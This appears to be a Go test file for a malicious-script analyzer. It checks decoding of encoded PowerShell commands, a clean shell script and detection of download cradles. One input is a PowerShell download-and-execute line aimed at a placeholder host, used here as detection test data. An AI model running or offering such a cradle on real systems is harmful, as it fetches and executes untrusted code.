package script_test

import (
	"strings"
	"testing"

	"github.com/eventsec/eventsec/internal/sandbox/script"
)

func TestDecodeEncodedCommand(t *testing.T) {
	// "Write-Host hi" as UTF-16LE base64, the -EncodedCommand form.
	info := script.Analyze([]byte("powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQAgAGYAcgBvAG0AIABlAG4AYwBvAGQAZQBkAA=="), script.PowerShell)
	if len(info.Decoded) != 1 || info.Decoded[0].Encoding != "base64-utf16le" || info.Decoded[0].Text != "Write-Host hi from encoded" {
		t.Fatalf("%+v", info.Decoded)
	}
	if info.ObfuscationScore == 0 {
		t.Error("no obfuscation score")
	}
}

func TestCleanScript(t *testing.T) {
	src := "# backup\nset -e\ntar czf /backup/home.tgz /home\necho done\n"
	info := script.Analyze([]byte(src), script.Shell)
	if info.Score() != 0 || info.ObfuscationScore != 0 {
		t.Errorf("clean script scored %d: %+v", info.Score(), info.Findings)
	}
}

func TestUTF16Script(t *testing.T) {
	src := "\xff\xfe" + strings.Join(strings.Split("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", ""), "\x00") + "\x00"
	info := script.Analyze([]byte(src), script.PowerShell)
	codes := map[string]bool{}
	for _, f := range info.Findings {
		codes[f.Code] = true
	}
	if !codes["script.download_cradle"] || !codes["script.pipe_to_shell"] && !codes["script.eval"] {
		t.Errorf("%+v", info.Findings)
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte("powershell -enc SQBFAFgA"), uint8(0))
	f.Add([]byte("eval(String.fromCharCode(97,108,101,114,116))"), uint8(1))
	langs := []script.Language{script.PowerShell, script.JavaScript, script.VBScript, script.Batch, script.Shell, script.VBA}
	f.Fuzz(func(t *testing.T, b []byte, l uint8) {
		info := script.Analyze(b, langs[int(l)%len(langs)])
		if info.ObfuscationScore < 0 || info.ObfuscationScore > 100 {
			t.Fatalf("score %d", info.ObfuscationScore)
		}
	})
}
